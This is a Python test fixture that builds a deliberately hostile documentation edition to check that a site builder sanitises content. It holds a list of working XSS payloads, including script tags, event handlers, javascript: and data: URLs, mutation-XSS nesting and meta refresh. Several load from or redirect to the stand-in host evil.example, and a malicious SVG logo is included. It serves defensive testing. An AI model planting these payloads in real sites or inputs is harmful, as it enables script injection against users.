"""A hostile edition: every payload in every text field an edition can set (issue #9).

`write_hostile_edition(folder)` writes edition.yml, mkdocs.yml, a hand-written
page and a logo into ``folder``. Each payload would, if it ran, set
``window.__pwned``, change the page title, navigate away or ask another host
for something. Fields with a format (an email, a web address, a file path)
get the payloads that fit it. tests/test_content_safety.py builds it and
scans the site; tests/browser/test_content_safety.py loads it in Chromium.
"""

from __future__ import annotations

import json
from pathlib import Path

import yaml

from kmsat_build.loader import load_framework
from kmsat_build.national import national_framework_dir

EVIL = "https://evil.example"
PAYLOADS = [
    "<script>window.__pwned=1;document.title='pwned'</script>",
    "<script src='https://evil.example/x.js'></script>",
    '<img src=x onerror="window.__pwned=1">',
    '<img src="https://evil.example/track.png" alt="">',
    '<a href="https://evil.example/" onclick="window.__pwned=1" onmouseover="window.__pwned=1">hover</a>',
    "[markdown link](javascript:window.__pwned=1)",
    '<a href="JaVaScRiPt:window.__pwned=1">mixed case</a>',
    '<a href="java&#x09;script:window.__pwned=1">entity</a>',
    "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    '<a href="data:text/html,&lt;script&gt;window.__pwned=1&lt;/script&gt;">data</a>',
    "<svg><script>window.__pwned=1</script></svg>",
    '<svg onload="window.__pwned=1"><a xlink:href="javascript:window.__pwned=1">s</a></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<form action="https://evil.example/"><input name="q" autofocus onfocus="window.__pwned=1">'
    "<button>Send</button></form>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="window.__pwned=1"><summary>t</summary></details>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style>"
    "</mglyph></table></mtext></math>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "</title><script>window.__pwned=1</script>",
    '"><script>window.__pwned=1</script>',
    "--><script>window.__pwned=1</script>",
    '<div markdown="1"><script>window.__pwned=1</script></div>',
]
# Markdown-only: attr_list would put an attribute on the paragraph (braces break str.format,
# so not in UI strings, which some pages fill with values).
MARKDOWN_PAYLOADS = ['Attribute list\n{: onclick="window.__pwned=1" }']
# Fields checked for a format: the payloads that pass the check.
EMAIL = 'x"><svg/onload=window.__pwned=1>@evil.example'
URL = 'https://evil.example/"><script>window.__pwned=1</script>'
LOGO = 'assets/logo" onerror="window.__pwned=1.svg'
LOGO_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
    '<script>window.__pwned=1</script><rect width="10" height="10"/></svg>\n'
)
DOCS_PAGE = "local.md"


def prose() -> str:
    """Every payload, each its own Markdown block."""
    return "\n\n".join(PAYLOADS + MARKDOWN_PAYLOADS) + "\n"


def line() -> str:
    """Every payload on one line (for titles, labels and other one-line text)."""
    return " ".join(PAYLOADS)


def local_examples() -> list[dict]:
    return [{"title": line(), "body": prose()}]


def edition_data() -> dict:
    """The whole overlay: payloads in every text field, for one of each kind of item."""
    national = load_framework(national_framework_dir())
    element = national.elements[0]
    criterion = element.criteria[0]
    technique = national.techniques[0]
    level_ids = [lv.id for lv in national.scale.levels]
    scale_ids = level_ids + [
        o.id
        for o in national.scale.unscored
        + national.scale.priorities
        + national.scale.checklist_answers
    ]
    technique_fields = {
        "title": line(),
        "summary": line(),
        "what": prose(),
        "when": prose(),
        "steps": [prose(), line()],
        "time": line(),
        "roles": [{"who": line(), "does": prose()}],
        "prepare": [prose(), line()],
        "output": prose(),
        "kls_role": prose(),
        "watch_out": [prose()],
        "local_examples": local_examples(),
    }
    return {
        "edition": {
            "id": "hostile",
            "title": line(),
            "short_title": line(),
            "publisher": line(),
            "contact": {"name": line(), "email": EMAIL, "url": URL},
            "version": "1",
            "language": "en-GB",
            "licence": prose(),
            "description": prose(),
        },
        "branding": {"logo": LOGO, "favicon": LOGO},
        "home": {
            "title": line(),
            "intro": prose(),
            "parts_heading": line(),
            "parts": [{"heading": line(), "body": prose()}],
            "outro": prose(),
        },
        "letter": {
            "address": [line(), line()],
            "email": line(),
            "salutation": prose(),
            "title": line(),
            "context": prose(),
            "body": prose(),
            "closing": prose(),
            "signatory": {"name": line(), "role": line()},
        },
        "checklist": {
            "intro": prose(),
            "add": [{"id": "hostile-question", "question": line(), "why": prose()}],
        },
        "scale": {sid: {"label": line(), "description": prose()} for sid in scale_ids},
        "elements": {
            e.id: {"title": line(), "summary": line(), "description": prose()}
            | (
                {
                    "add_criteria": [
                        {
                            "id": "hostile-criterion",
                            "title": line(),
                            "statement": line(),
                            "hint": prose(),
                            "levels": {lv: prose() for lv in level_ids},
                            "opportunities": [technique.id, "hostile-technique"],
                            "local_examples": local_examples(),
                        }
                    ]
                }
                if e.id == element.id
                else {}
            )
            for e in national.elements
        },
        "criteria": {
            criterion.id: {
                "title": line(),
                "statement": line(),
                "hint": prose(),
                "levels": {lv: prose() for lv in level_ids},
                "local_examples": local_examples(),
            }
        },
        "techniques": {technique.id: technique_fields},
        "add_techniques": [
            {"id": "hostile-technique", "kind": "technique", "stage": "any"} | technique_fields
        ],
        "guides": {
            g.id: {
                "title": line(),
                "intro": prose(),
                "sections": [{"heading": line(), "body": prose()}],
            }
            for g in national.guides
        },
        # Braces in UI strings are placeholders (kmsat check refuses unknown ones).
        "strings": {
            key: _braceless(line())
            for key in national.strings
            if not _has_placeholder(key, national)
        },
    }


def _braceless(text: str) -> str:
    return text.replace("{", "(").replace("}", ")")


def _has_placeholder(key: str, fw) -> bool:
    """UI strings with {placeholders} keep them (the page fills them in); the rest are payloads."""
    return "{" in fw.strings[key]


def write_hostile_edition(folder: Path) -> dict:
    """Write the edition into ``folder``; returns its overlay data."""
    data = edition_data()
    national = load_framework(national_framework_dir())
    for key, text in national.strings.items():
        if _has_placeholder(key, national):
            # Keep each {placeholder}; the payloads (without braces, which str.format
            # would read as placeholders) go around them.
            braceless = _braceless(line())
            data["strings"][key] = braceless + " " + text + " " + braceless
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "edition.yml").write_text(
        yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000), encoding="utf-8"
    )
    config = {
        "site_name": "Hostile edition",
        "docs_dir": "docs",
        "theme": {"name": "material"},
        "plugins": [{"kmsat": {"overlay": "edition.yml"}}, "search", "offline"],
    }
    (folder / "mkdocs.yml").write_text(json.dumps(config, indent=2), encoding="utf-8")
    docs = folder / "docs"
    (docs / Path(LOGO).parent).mkdir(parents=True, exist_ok=True)
    (docs / LOGO).write_text(LOGO_SVG, encoding="utf-8")
    # A hand-written page: the team's own Markdown is content too.
    (docs / DOCS_PAGE).write_text("# Our page\n\n" + prose(), encoding="utf-8")
    return data


def text_fields(data, path: tuple = ()) -> list[tuple[tuple, str]]:
    """Every (key path, text) in the overlay that holds a payload."""
    if isinstance(data, dict):
        return [f for k, v in data.items() for f in text_fields(v, path + (k,))]
    if isinstance(data, list):
        return [f for i, v in enumerate(data) for f in text_fields(v, path + (i,))]
    if isinstance(data, str) and ("pwned" in data):
        return [(path, data)]
    return []
